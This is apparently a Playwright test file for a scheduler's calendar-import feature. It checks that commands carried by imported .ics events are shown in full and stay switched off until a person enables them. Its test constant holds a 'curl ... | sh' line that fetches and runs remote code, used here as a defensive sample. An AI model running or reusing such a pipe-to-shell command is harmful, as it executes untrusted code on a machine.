"""A calendar file shows what it would run before anything of it is kept, and nothing of a stranger's is switched on
that was not looked at."""

import json
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

from playwright.sync_api import Locator, Page, expect

from benchmarks import planned
from synapse.ical.reading import read_calendar
from tests.parts.calendar_files import calendar_file
from tests.parts.calendar_server import answering, calendar_server
from tests.parts.harness import SynapseUnderTest

SignIn = Callable[[SynapseUnderTest], Page]
COMMAND = ['sh', '-c', 'curl -s https://example.org/x | sh # <b>harmless</b>']


def a_file(folder: Path, *titles: str) -> Path:
    """A file with an event for each title that runs `COMMAND` in an hour."""
    at = datetime.now(UTC) + timedelta(hours=1)
    command = json.dumps({'command': COMMAND}).replace(',', r'\,').replace(';', r'\;')
    lines = ['BEGIN:VCALENDAR', 'VERSION:2.0']
    for number, title in enumerate(titles):
        lines += ['BEGIN:VEVENT', f'UID:{number}@stranger', f'SUMMARY:{title}', f'DTSTART:{at:%Y%m%dT%H%M%SZ}']
        lines += ['X-SYNAPSE-PIPELINE:RunCommand', f'X-SYNAPSE-PARAMETERS:{command}', 'END:VEVENT']
    path = folder / 'team.ics'
    path.write_text('\r\n'.join([*lines, 'END:VCALENDAR', '']), newline='')
    return path


def choose(page: Page, program: SynapseUnderTest, file: Path) -> Locator:
    """Give the page the file; the question that follows."""
    page.goto(f'{program.url}settings')
    page.get_by_label('Import a calendar file').set_input_files(file)
    return page.get_by_role('dialog', name='Import')


def kept(program: SynapseUnderTest) -> dict[str, bool]:
    """Which events there are by their titles, and whether they are switched on."""
    with program.api as api:
        text = api.get('/scheduler/calendar.ics').content
    return {draft.name: draft.values['enabled'] for draft in read_calendar(text, zone='UTC').drafts}


def test_what_a_file_would_run_is_shown_in_full_and_kept_off_until_a_person_switches_it_on(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path, problems: list[str]
) -> None:
    page = open_tab(program)

    question = choose(page, program, a_file(user_folder, '<i>Lunch</i>'))
    expect(question.get_by_role('listitem')).to_have_count(1)
    expect(question.get_by_text('<i>Lunch</i>', exact=True)).to_be_visible()
    expect(question.get_by_label('It runs')).to_have_text(f'RunCommand\ncommand: {json.dumps(COMMAND)}')
    assert kept(program) == {}
    question.get_by_role('button', name='Import, switched off').click()

    expect(page.get_by_text('1 new. 1 switched off until you switch them on.')).to_be_visible()
    assert kept(program) == {'<i>Lunch</i>': False}

    page.goto(f'{program.url}scheduler')
    chip = page.get_by_role('button', name='<i>Lunch</i>, switched off')
    expect(chip).to_be_visible()
    chip.click()
    dialog = page.get_by_role('dialog', name='Edit event')
    expect(dialog.get_by_label('It runs')).to_have_text(f'RunCommand\ncommand: {json.dumps(COMMAND)}')
    dialog.get_by_label('Active').press('Space')
    expect(dialog.get_by_label('Active')).to_be_checked()
    dialog.get_by_role('button', name='Save event').click()
    expect(page.get_by_role('button', name='<i>Lunch</i>, planned')).to_be_visible()
    assert kept(program) == {'<i>Lunch</i>': True}
    assert problems == []


def test_an_open_dialog_shows_what_a_file_has_made_of_its_event(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path
) -> None:
    page = open_tab(program)
    with program.api as api:
        values = {'pipeline': 'RunCommand', 'parameters': {'command': ['true']}, 'timezone': 'UTC', 'title': 'Mine'}
        start = (datetime.now(UTC) + timedelta(hours=1)).replace(tzinfo=None, microsecond=0).isoformat()
        id = api.post('/scheduler/create', json={**values, 'start': start}).json()['id']
        page.goto(f'{program.url}scheduler')
        page.get_by_role('button', name='Mine, planned').click()
        dialog = page.get_by_role('dialog', name='Edit event')
        expect(dialog.get_by_text('Saving changes only')).to_have_count(0)
        foreign = a_file(user_folder, 'Mine').read_text().replace('0@stranger', f'{id}@synapse\r\nSEQUENCE:9')

        answer = api.post('/scheduler/import', content=foreign, headers={'Content-Type': 'text/calendar'})

    assert answer.json()['disabled'] == [id]
    expect(dialog.get_by_label('It runs')).to_have_text(f'RunCommand\ncommand: {json.dumps(COMMAND)}')


def test_only_what_is_ticked_is_switched_on_and_cancel_keeps_nothing(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path
) -> None:
    page = open_tab(program)
    file = a_file(user_folder, 'Lunch', 'Dinner')

    question = choose(page, program, file)
    question.get_by_role('button', name='Cancel').click()
    expect(question).to_be_hidden()
    assert kept(program) == {}

    question = choose(page, program, file)
    question.get_by_label('Switch on Dinner').check()
    question.get_by_role('button', name='Import, switch 1 on').click()
    expect(page.get_by_text('2 new. 1 switched off until you switch them on.')).to_be_visible()

    assert kept(program) == {'Lunch': False, 'Dinner': True}


def test_a_long_file_shows_its_first_events_and_counts_the_others(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path
) -> None:
    page = open_tab(program)

    question = choose(page, program, a_file(user_folder, *(f'Lunch {number}' for number in range(1500))))

    expect(question.get_by_text('and 1,480 more, 1,480 of them stay switched off.')).to_be_visible()
    expect(question.get_by_role('listitem')).to_have_count(20)
    expect(question.get_by_text('1,500 new.')).to_be_visible()


def test_what_is_left_out_is_named_and_whole_days_run_at_the_chosen_time(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path
) -> None:
    page = open_tab(program)
    file = a_file(user_folder, 'Lunch', 'Whole day', 'Odd')
    text = file.read_text().replace('\nSUMMARY:Odd', '\nSUMMARY=Odd')
    second = text.index('DTSTART', text.index('DTSTART') + 1)
    file.write_text(f'{text[:second]}DTSTART;VALUE=DATE:20311006{text[text.index(chr(10), second) - 1 :]}', newline='')

    question = choose(page, program, file)
    question.get_by_text('1 left out').click()
    expect(question.get_by_text("'2@stranger' has a line that cannot be read: SUMMARY=Odd")).to_be_visible()
    at = question.get_by_label('Events without a time of day run at')
    expect(at).to_have_value('09:00')
    at.fill('07:15')
    at.blur()
    expect(page.get_by_text('Next on Mon 6 Oct 2031, 07:15.')).to_be_visible()
    page.get_by_role('button', name='Import, switched off').last.click()

    expect(page.get_by_text('2 new. 2 switched off until you switch them on.')).to_be_visible()
    with program.api as api:
        events = api.get('/scheduler/list').json()['events']
    assert [event['start'] for event in events if event['title'] == 'Whole day'] == ['2031-10-06T07:15:00']


def test_events_get_their_pipeline_by_rules_that_are_made_in_the_dialog_and_kept(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path, problems: list[str]
) -> None:
    page = open_tab(program)
    file = a_file(user_folder, 'Team lunch', 'Dinner', 'Lunch again')
    file.write_text(re.sub(r'X-SYNAPSE-.*\n', '', file.read_text()))

    question = choose(page, program, file)
    expect(question.get_by_text('3 without a pipeline.')).to_be_visible()
    expect(question.get_by_role('button', name='Nothing to import yet')).to_be_disabled()
    question.get_by_role('button', name='Add a rule').click()
    rule = page.get_by_role('dialog', name='Rule')
    rule.get_by_label('Text').fill('lunch')
    rule.get_by_label('Run', exact=True).select_option('RunCommand')
    rule.get_by_role('button', name='Save rule').click()
    expect(rule.get_by_text('Fix the marked fields.')).to_be_visible()
    rule.get_by_label('Command').first.fill('echo lunch')
    rule.get_by_role('button', name='Save rule').click()
    expect(rule).to_be_hidden()
    expect(question.get_by_text('2 new, 1 without a pipeline.')).to_be_visible()
    new = question.get_by_role('region', name='New')
    expect(new.get_by_text('Title contains “lunch”.')).to_have_count(2)
    question.get_by_label('Switch on Lunch again').check()
    question.get_by_role('button', name='Import, switch 1 on').click()
    expect(page.get_by_text('2 new, 1 without a pipeline. 1 switched off')).to_be_visible()

    assert kept(program) == {'Team lunch': False, 'Lunch again': True}
    question = choose(page, program, file)
    expect(question.get_by_text('2 as before, 1 without a pipeline.')).to_be_visible()
    assert problems == []


def test_all_events_of_a_rule_are_switched_on_at_once_and_all_that_were_shown(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path, problems: list[str]
) -> None:
    page = open_tab(program)
    rule = {'when': 'title', 'text': 'lunch', 'pipeline': 'RunCommand', 'parameters': {'command': ['true']}}
    with program.api as api:
        api.put('/scheduler/import-rules', json={'rules': [rule]}).raise_for_status()
        file = a_file(user_folder, *(f'Lunch {number}' for number in range(60)), *(f'Evil {n}' for n in range(30)))

        question = choose(page, program, file)
        question.get_by_role('button', name='Switch on all shown').click()
        expect(question.get_by_role('button', name='Import, switch 20 on')).to_be_visible()
        question.get_by_role('button', name='Switch on none').click()
        question.get_by_role('button', name='Switch on 60 of the rule: Title contains “lunch”').click()
        expect(question.get_by_label('Switch on Lunch 3', exact=True)).to_be_checked()
        expect(question.get_by_text('and 70 more, 30 of them stay switched off.')).to_be_visible()
        question.get_by_role('button', name='Import, switch 60 on').click()
        expect(page.get_by_text('90 new. 30 switched off until you switch them on.')).to_be_visible()
        events = api.get('/scheduler/list').json()['events']
        assert {event['title'].split()[0] for event in events if event['enabled']} == {'Lunch'}
        assert sum(event['enabled'] for event in events) == 60

        file.write_text(file.read_text().replace('SUMMARY:Evil 3\n', 'SUMMARY:Dinner\nSEQUENCE:9\n'), newline='')
        question = choose(page, program, file)
        changed = question.get_by_role('region', name='Changed')
        expect(changed.get_by_text('Title: “Evil 3” → “Dinner”')).to_be_visible()
        question.get_by_label('Switch on Dinner').check()
        question.get_by_role('button', name='Import, switch 1 on').click()
        expect(page.get_by_text('team.ics: 1 changed, 89 as before.')).to_be_visible()
        events = api.get('/scheduler/list').json()['events']
    assert [event['enabled'] for event in events if event['title'] == 'Dinner'] == [True]
    assert problems == []


def test_a_subscribed_calendar_is_added_read_and_shown_as_it_changes(
    program: SynapseUnderTest, open_tab: SignIn, problems: list[str]
) -> None:
    page = open_tab(program)
    lunch = 'UID:lunch@team\nDTSTART:20311006T160000Z\nSUMMARY:Team lunch'
    rule = {'when': 'any', 'pipeline': 'RunCommand', 'parameters': {'command': ['true']}}
    with program.api as api:
        api.put('/scheduler/import-rules', json={'rules': [rule]}).raise_for_status()
    with calendar_server() as server:
        server.text = calendar_file(lunch)
        page.goto(f'{program.url}settings')
        page.get_by_role('button', name='Add a calendar').click()
        dialog = page.get_by_role('dialog', name='Add a calendar')
        dialog.get_by_label('Address').fill(server.address())
        expect(dialog.get_by_text('Without https: anyone on the way can read it')).to_be_visible()
        dialog.get_by_label('Name').fill('Team')
        dialog.get_by_label('Name').press('Enter')
        row = page.get_by_role('listitem', name='Team')
        expect(row.get_by_text('1 event, 1 switched off.')).to_be_visible()

        server.text = calendar_file(lunch, lunch.replace('lunch', 'dinner'))
        with program.api as api:
            (item,) = api.get('/scheduler/subscriptions').json()
            api.post(f'/scheduler/subscriptions/{item["id"]}/read').raise_for_status()
        expect(row.get_by_text('2 events, 2 switched off.')).to_be_visible()
        server.answer = answering(500)
        row.get_by_role('button', name='Read now: Team').click()
        expect(row.get_by_text('127.0.0.1 answered 500')).to_be_visible()

        row.get_by_role('button', name='Remove Team').click()
        question = page.get_by_role('alertdialog')
        question.get_by_text('Delete its events').click()
        question.get_by_role('button', name='Remove').click()
        expect(row).to_be_hidden()
    assert kept(program) == {}
    assert problems == []


def test_a_long_file_shows_how_far_it_is_and_can_be_cancelled(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path, problems: list[str]
) -> None:
    page = open_tab(program)
    long = user_folder / 'long.ics'
    long.write_bytes(planned.as_file(planned.recurring(15_000)))

    question = choose(page, program, long)
    expect(page.get_by_role('progressbar', name='Import')).to_have_attribute(
        'aria-valuetext', re.compile(r'Reading: [\d,]+ of 15,000 events')
    )
    page.get_by_role('button', name='Cancel the import').click()
    expect(page.get_by_role('progressbar', name='Import')).to_be_hidden()
    page.get_by_label('Import a calendar file').set_input_files(a_file(user_folder, 'Lunch'))
    expect(question.get_by_text('1 new.')).to_be_visible()
    expect(page.get_by_role('progressbar', name='Import')).to_be_hidden()

    assert kept(program) == {}
    assert problems == []
